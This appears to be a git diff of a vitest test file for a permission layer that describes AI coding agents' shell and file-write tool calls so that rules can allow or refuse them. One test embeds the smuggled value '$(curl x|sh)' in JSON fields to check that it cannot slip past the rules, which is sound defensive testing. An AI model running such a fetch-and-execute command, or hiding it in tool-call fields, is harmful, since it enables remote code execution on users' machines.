@@ -2,7 +2,8 @@ import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSyn
 import { tmpdir } from "node:os";
 import path from "node:path";
 import { expect, onTestFinished, test } from "vitest";
-import { describeCall } from "./describe-call.ts";
+import { commandCall } from "./call-fields.ts";
+import { describeCall, describeOwnCall } from "./describe-call.ts";
 
 function scratch(): string {
   const directory = realpathSync(mkdtempSync(path.join(tmpdir(), "rt-describe-")));
@@ -30,7 +31,6 @@ test("[A376] the same command is the same to rules, whichever agent wants to run
     tool: "shell",
   });
   const calls = [
-    ["shell", own],
     ["shell", "/bin/bash -lc 'git status'"],
     ["Bash", "git status"],
     ["Bash", JSON.stringify({ command: "git status", description: "look", timeout: 5 })],
@@ -40,6 +40,7 @@ test("[A376] the same command is the same to rules, whichever agent wants to run
   expect(calls.map(([tool, call]) => describeCall({ tool, call }, "/"))).toEqual(
     calls.map(([tool]) => ran(tool, "git status")),
   );
+  expect(describeOwnCall({ tool: "shell", call: own })).toEqual(ran("shell", "git status"));
 });
 
 test("[A375] what stands beside a command and is not known makes the call one that cannot be allowed by it", () => {
@@ -54,7 +55,7 @@ test("[A375] what stands beside a command and is not known makes the call one th
     isWhole: false,
   });
   const foreign = JSON.stringify({ args: { command: "git status" }, cwd: "/x", member: "m", tool: "terminal" });
-  expect(describeCall({ tool: "terminal", call: foreign }, "/").subjects).toEqual([
+  expect(describeOwnCall({ tool: "terminal", call: foreign }).subjects).toEqual([
     { kind: "call", text: '{"command":"git status"}' },
   ]);
 });
@@ -101,7 +102,7 @@ test("[A374] a changed file is its real place, from the session's directory, whi
     member: "m",
     tool: "write",
   });
-  expect(describeCall({ tool: "write", call: own }, cwd)).toEqual(changed("write", "real/x"));
+  expect(describeOwnCall({ tool: "write", call: own })).toEqual(changed("write", "real/x"));
 });
 
 test("[A375] anything else is exactly this call", () => {
@@ -111,4 +112,56 @@ test("[A375] anything else is exactly this call", () => {
     subjects: [{ kind: "call", text: '{"b":1}' }],
   });
   expect(describeCall({ tool: "Edit", call: "{broken" }, "/").subjects).toEqual([{ kind: "call", text: "{broken" }]);
+});
+
+test("[A654] a command that is written as JSON is one command, whatever its fields say", () => {
+  const own = '{"args":{},"bound":{"path":"src/a.ts"},"cwd":"x","member":"x","tool":"x","z":"$(curl x|sh)"}';
+  const lines = [own, '{"command":"git status","description":"$(curl x|sh)"}', "{ echo a; }", "git status"];
+  for (const tool of ["Bash", "bash", "shell", "execute"]) {
+    expect(lines.map((line) => describeCall({ tool, call: commandCall(line) }, "/"))).toEqual(
+      lines.map((line) => ran(tool, line)),
+    );
+  }
+  // Also where nobody has written it as the text that it is.
+  expect(describeCall({ tool: "Bash", call: own }, "/")).toMatchObject({
+    changesFiles: false,
+    subjects: [{ kind: "command", text: own }, { kind: "call" }],
+    isWhole: false,
+  });
+});
+
+test("[A658] a path that a change names beside another does not hide that one", () => {
+  const cwd = scratch();
+  const outside = scratch();
+  const both = {
+    path: path.join(outside, "x"),
+    args: { path: "src/a.ts" },
+    paths: ["src/b.ts"],
+    changes: [{ path: "c" }],
+  };
+  expect(describeCall({ tool: "write", call: JSON.stringify(both) }, cwd)).toEqual(
+    changed("write", path.join(outside, "x"), "c", "src/a.ts", "src/b.ts"),
+  );
+});
+
+test("[A657] paths that are merely listed can be refused, and allowed only with the diff that goes with them", () => {
+  const cwd = scratch();
+  const seen = (call: object) => {
+    const { subjects, isWhole } = describeCall({ tool: "edit", call: JSON.stringify(call) }, cwd);
+    return { paths: subjects.flatMap(({ kind, text }) => (kind === "path" ? [text] : [])), isWhole };
+  };
+  const paths = ["src/a.ts", "b"];
+  expect(seen({ title: "t", paths, diff: "d" })).toEqual({ paths, isWhole: true });
+  expect(seen({ title: "t", paths })).toEqual({ paths, isWhole: false });
+  expect(seen({ title: "t", args: { to: "/etc/x" }, paths, diff: "d" })).toEqual({ paths, isWhole: false });
+  expect(seen({ title: "t", args: { filepath: "src/a.ts", diff: "d" }, paths, diff: "d" })).toEqual({
+    paths,
+    isWhole: true,
+  });
+  // So opencode asks about a patch of several files.
+  const joined = "src/a.ts, b";
+  expect(seen({ title: "t", args: { filepath: joined, diff: "d" }, paths: [joined], diff: "d" })).toEqual({
+    paths: [joined, ...paths],
+    isWhole: false,
+  });
 });
